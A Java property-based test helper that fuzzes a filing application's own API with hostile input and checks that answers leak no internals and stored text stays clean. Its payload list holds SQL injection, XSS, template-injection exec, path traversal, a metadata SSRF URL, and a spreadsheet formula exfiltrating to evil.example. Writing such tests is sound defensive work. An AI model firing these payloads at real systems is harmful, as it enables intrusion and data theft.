package org.qunbei.support;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import tools.jackson.databind.JsonNode;

/**
 * What an attacker types: the classic payloads (SQL, script, formula, file and internal URLs),
 * characters no column should keep, sizes no field takes, and JSON of the wrong shape; plus the
 * checks that the answer gave nothing away and that what was stored keeps the rules.
 */
public final class Hostile {

  private Hostile() {}

  public static final String LONG = "x".repeat(10_000);

  public static final List<String> PAYLOADS =
      List.of(
          "' OR 1=1--",
          "' OR '1'='1",
          "'; drop table filing;--",
          "\" OR \"\"=\"",
          "1; select pg_sleep(5)--",
          "' UNION SELECT username, password_hash FROM user_account--",
          "%' AND 1=0 UNION SELECT 1--",
          "\\'; --",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "'><svg onload=alert(1)>",
          "javascript:alert(1)",
          "<img src=\"file:///etc/passwd\">",
          "<img src=\"http://127.0.0.1:9/x.png\">",
          "<link rel=stylesheet href=file:///etc/passwd>",
          "__${T(Runtime).getRuntime().exec('id')}__::.x",
          "[[${7*7}]]",
          "#{7*7}",
          "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
          "=1+1",
          "+cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "\t=1+1",
          "\u0000",
          "群\u0000名",
          "\u0007响铃",
          "\u001b[31m红",
          "\u0085",
          "C1\u009b控制",
          "\u007f",
          "\ud800",
          "半个\udc00字",
          "尾\ud83d",
          "\u202e\u0644evil.exe",
          "零\u200b宽\u200d字\ufeff",
          "\u2028\u2029",
          "",
          " ",
          "   \t\n  ",
          "😀👨‍👩‍👧",
          "ｓｃｒｉｐｔ",
          "%00",
          "%27%20OR%201%3D1",
          "../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "file:///etc/passwd",
          "http://169.254.169.254/latest/meta-data/",
          LONG,
          "中".repeat(10_001),
          "9".repeat(400));

  /** Hostile text: a payload, any UTF-16 units at all, or a payload inside ordinary text. */
  public static Arbitrary<String> text() {
    Arbitrary<String> payload = Arbitraries.of(PAYLOADS);
    return Arbitraries.frequencyOf(
        net.jqwik.api.Tuple.of(5, payload),
        net.jqwik.api.Tuple.of(3, Arbitraries.strings().all().ofMaxLength(40)),
        net.jqwik.api.Tuple.of(
            2,
            Combinators.combine(Arbitraries.of("工作群", "张三", "说明 "), payload).as((a, b) -> a + b)),
        net.jqwik.api.Tuple.of(
            1, Arbitraries.strings().withCharRange('\u0000', '\u00ff').ofMaxLength(20)));
  }

  /** A JSON value as text, of any shape, ready to be put where a field's value goes. */
  public static Arbitrary<String> jsonValue() {
    return Arbitraries.frequencyOf(
        net.jqwik.api.Tuple.of(8, text().map(Hostile::quote)),
        net.jqwik.api.Tuple.of(
            2,
            Arbitraries.of(
                "0",
                "-1",
                "0.5",
                "-0.0",
                "1e308",
                "1e309",
                "-1e309",
                "1e-400",
                "2147483648",
                "-2147483649",
                "9223372036854775808",
                "1" + "0".repeat(400))),
        net.jqwik.api.Tuple.of(1, Arbitraries.of("true", "false", "null")),
        net.jqwik.api.Tuple.of(
            1, text().list().ofMaxSize(3).map(l -> "[" + String.join(",", quoted(l)) + "]")),
        net.jqwik.api.Tuple.of(1, text().map(s -> "{\"a\":" + quote(s) + ",\"b\":[1]}")),
        net.jqwik.api.Tuple.of(
            1,
            Arbitraries.of(
                "\"2026-02-30\"",
                "\"0000-00-00\"",
                "\"+999999999-12-31\"",
                "\"-999999999-01-01\"",
                "\"2026-13-01\"",
                "\"20260101\"",
                "\"2026-01-01T00:00:00Z\"",
                "\"1900-01-01\"",
                "\"9999-12-31\"")),
        net.jqwik.api.Tuple.of(
            1,
            Arbitraries.of(
                "\"wechat\"",
                "\"WECHAT' OR '1'='1\"",
                "\"OTHER\"",
                "\"APPROVE\"",
                "\"SYSTEM_ADMIN\"",
                "\"FILED\"",
                "[\"INTERNAL\",\"INTERNAL\",\"NOPE\"]",
                "[null]",
                "[]")),
        net.jqwik.api.Tuple.of(1, Arbitraries.of(deep("[", "]"), deep("{\"a\":", "}"))));
  }

  private static String deep(String open, String close) {
    return open.repeat(3000) + "1" + close.repeat(3000);
  }

  private static List<String> quoted(List<String> l) {
    return l.stream().map(Hostile::quote).toList();
  }

  /**
   * A JSON string in plain ASCII: every unit outside it escaped, so that a lone surrogate, which no
   * UTF-8 encoder would send, still reaches the server as {@code \ud800}.
   */
  public static String quote(String s) {
    StringBuilder b = new StringBuilder(s.length() + 2).append('"');
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      if (c == '"' || c == '\\') {
        b.append('\\').append(c);
      } else if (c < 0x20 || c > 0x7e) {
        b.append(String.format("\\u%04x", (int) c));
      } else {
        b.append(c);
      }
    }
    return b.append('"').toString();
  }

  /**
   * Which fields of a valid body get hostile values, what is added around it (server-owned fields,
   * a repeated key), or what replaces it (a value that is no object, a cut-off text).
   */
  public record Plan(List<Integer> picks, List<String> values, boolean everyField, int envelope) {
    @Override
    public String toString() {
      return "Plan[picks="
          + picks
          + ", everyField="
          + everyField
          + ", envelope="
          + envelope
          + ", values="
          + values.stream().map(v -> v.length() > 120 ? v.substring(0, 120) + "…" : v).toList()
          + "]";
    }
  }

  public static Arbitrary<Plan> plans() {
    return Combinators.combine(
            Arbitraries.integers().between(0, 1000).list().ofMinSize(1).ofMaxSize(4),
            jsonValue().list().ofMinSize(1).ofMaxSize(4),
            Arbitraries.of(true, false, false, false, false, false),
            Arbitraries.frequency(
                net.jqwik.api.Tuple.of(14, 0),
                net.jqwik.api.Tuple.of(2, 1),
                net.jqwik.api.Tuple.of(2, 2),
                net.jqwik.api.Tuple.of(1, 3),
                net.jqwik.api.Tuple.of(1, 4),
                net.jqwik.api.Tuple.of(1, 5),
                net.jqwik.api.Tuple.of(1, 6)))
        .as(Plan::new);
  }

  /** The body the plan makes of a valid one. */
  public static String body(Plan plan, JsonNode base) {
    List<String> paths = new ArrayList<>();
    collect(base, "", paths);
    Map<String, String> replaced = new HashMap<>();
    if (plan.everyField()) {
      for (int i = 0; i < paths.size(); i++) {
        replaced.put(paths.get(i), plan.values().get(i % plan.values().size()));
      }
    } else {
      for (int i = 0; i < plan.picks().size(); i++) {
        replaced.put(
            paths.get(plan.picks().get(i) % paths.size()),
            plan.values().get(i % plan.values().size()));
      }
    }
    String json = render(base, "", replaced);
    String first = plan.values().get(0);
    return switch (plan.envelope()) {
      case 1 ->
          "{\"id\":1,\"status\":\"FILED\",\"number\":\"X-1\",\"groupId\":1,\"version\":0,"
              + "\"departmentCode\":\"MATH\",\"__proto__\":{\"admin\":true},\"roles\":[\"SYSTEM_ADMIN\"],"
              + "\"unknown\":"
              + first
              + ","
              + json.substring(1);
      case 2 -> duplicateFirstKey(json, first);
      case 3 -> first;
      case 4 -> json.substring(0, Math.max(1, json.length() / 2));
      case 5 -> "";
      case 6 -> "[" + json + "]";
      default -> json;
    };
  }

  private static String duplicateFirstKey(String json, String value) {
    int colon = json.indexOf(':');
    if (colon < 0) {
      return json;
    }
    return "{" + json.substring(1, colon) + ":" + value + "," + json.substring(1);
  }

  private static void collect(JsonNode n, String at, List<String> paths) {
    if (!at.isEmpty()) {
      paths.add(at);
    }
    if (n.isObject()) {
      for (var e : n.properties()) {
        collect(e.getValue(), at + "/" + e.getKey(), paths);
      }
    } else if (n.isArray()) {
      for (int i = 0; i < n.size(); i++) {
        collect(n.get(i), at + "/" + i, paths);
      }
    }
  }

  private static String render(JsonNode n, String at, Map<String, String> replaced) {
    String r = replaced.get(at);
    if (r != null) {
      return r;
    }
    if (n.isObject()) {
      List<String> parts = new ArrayList<>();
      for (var e : n.properties()) {
        parts.add(quote(e.getKey()) + ":" + render(e.getValue(), at + "/" + e.getKey(), replaced));
      }
      return "{" + String.join(",", parts) + "}";
    }
    if (n.isArray()) {
      List<String> parts = new ArrayList<>();
      for (int i = 0; i < n.size(); i++) {
        parts.add(render(n.get(i), at + "/" + i, replaced));
      }
      return "[" + String.join(",", parts) + "]";
    }
    return n.isString() ? quote(n.asString()) : n.toString();
  }

  // ---- checks ----

  /** Traces of the implementation that no answer may carry (our payloads contain none). */
  private static final List<String> LEAKS =
      List.of(
          "Exception",
          "\tat ",
          "org.hibernate",
          "org.springframework",
          "org.h2",
          "java.lang",
          "java.sql",
          "org.qunbei",
          "SQLState",
          "JdbcSQL",
          "could not execute",
          "Caused by");

  /** Never a 5xx; an answer other than a success gives nothing of the implementation away. */
  public static void answered(int status, String body, String what) {
    assertThat(status).as("%s answered %s: %s", what, status, cut(body)).isLessThan(500);
    if (status >= 300) {
      for (String leak : LEAKS) {
        assertThat(body).as("%s answered %s with %s", what, status, leak).doesNotContain(leak);
      }
    }
  }

  /** Longest text a field takes (FilingRules and the other bodies' rules); 2000 otherwise. */
  private static final Map<String, Integer> LIMITS =
      Map.ofEntries(
          Map.entry("groupName", 100),
          Map.entry("groupTypeOther", 30),
          Map.entry("groupNumber", 30),
          Map.entry("compositionOther", 50),
          Map.entry("compositionDetails", 500),
          Map.entry("purposeOther", 50),
          Map.entry("lifetimeOther", 200),
          Map.entry("name", 100),
          Map.entry("title", 50),
          Map.entry("duties", 200),
          Map.entry("mobile", 11),
          Map.entry("officePhone", 30),
          Map.entry("opinion", 500),
          Map.entry("reason", 500),
          Map.entry("changeReason", 500),
          Map.entry("username", 64),
          Map.entry("staffNumber", 64),
          Map.entry("email", 254),
          Map.entry("code", 50),
          Map.entry("departmentCode", 50));

  /**
   * Everything a stored thing reads back as: text without control characters (tab and line breaks
   * aside) or half a UTF-16 pair, without spaces around it, within its field's length.
   */
  public static void stored(JsonNode n, String what) {
    walk(n, "", what);
  }

  private static void walk(JsonNode n, String field, String what) {
    if (n.isObject()) {
      for (var e : n.properties()) {
        walk(e.getValue(), e.getKey(), what);
      }
    } else if (n.isArray()) {
      n.forEach(e -> walk(e, field, what));
    } else if (n.isString()) {
      String s = n.asString();
      assertThat(clean(s)).as("%s stored %s = %s", what, field, quote(cut(s))).isTrue();
      assertThat(s).as("%s stored %s with spaces around", what, field).isEqualTo(s.strip());
      int max = LIMITS.getOrDefault(field, 2000);
      assertThat(s.length())
          .as("%s stored %s of %s chars", what, field, s.length())
          .isLessThanOrEqualTo(max);
    }
  }

  /** No C0 or C1 control character but tab and line breaks, no DEL, no half UTF-16 pair. */
  public static boolean clean(String s) {
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      if (Character.isHighSurrogate(c)
          && i + 1 < s.length()
          && Character.isLowSurrogate(s.charAt(i + 1))) {
        i++;
      } else if (Character.isSurrogate(c)
          || (Character.getType(c) == Character.CONTROL && c != '\t' && c != '\n' && c != '\r')) {
        return false;
      }
    }
    return true;
  }

  private static String cut(String s) {
    return s.length() > 400 ? s.substring(0, 400) + "…" : s;
  }

  /** What was typed comes back as text: no script, handler or file/remote image of ours. */
  public static void noInjectedMarkup(String html, String what) {
    var doc = org.jsoup.Jsoup.parse(html);
    for (var s : doc.select("script")) {
      assertThat(s.hasAttr("src")).as("%s: an inline script %s", what, s).isTrue();
    }
    for (var e : doc.getAllElements()) {
      for (var a : e.attributes()) {
        assertThat(a.getKey()).as("%s: %s", what, e).doesNotStartWith("on");
        if (List.of("href", "src", "action", "formaction", "xlink:href").contains(a.getKey())) {
          assertThat(a.getValue().strip()).as("%s: %s", what, e).doesNotStartWith("javascript:");
        }
      }
    }
    for (var img : doc.select("img,link,iframe,svg,object,embed")) {
      String src = img.attr("src") + img.attr("href");
      assertThat(src).as("%s: %s", what, img).doesNotContain("file:").doesNotContain("127.0.0.1");
      assertThat(img.tagName()).as(what).isNotIn("iframe", "object", "embed", "svg");
    }
  }
}
